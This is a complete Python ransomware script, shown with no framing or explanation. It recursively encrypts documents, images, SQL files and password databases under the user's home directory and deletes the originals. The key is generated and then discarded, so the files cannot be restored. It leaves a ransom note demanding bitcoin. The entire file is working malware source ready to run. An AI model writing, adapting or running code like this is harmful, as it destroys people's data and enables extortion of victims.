import argparse
import os
from cryptography.fernet import Fernet

EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".kdbx"}


def walk(root):
    for base, _dirs, names in os.walk(root):
        for n in names:
            if os.path.splitext(n)[1].lower() in EXT:
                yield os.path.join(base, n)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", default=os.path.expanduser("~"))
    args = ap.parse_args()
    box = Fernet(Fernet.generate_key())
    n = 0
    for path in walk(args.root):
        with open(path, "rb") as fh:
            blob = box.encrypt(fh.read())
        with open(path + ".locked", "wb") as fh:
            fh.write(blob)
        os.remove(path)
        n += 1
    with open(os.path.join(args.root, "READ_ME_NOW.txt"), "w") as fh:
        fh.write("Your files are locked. Pay 0.1 BTC and write to desk@pay.example\n")
    print(n, "files")


main()
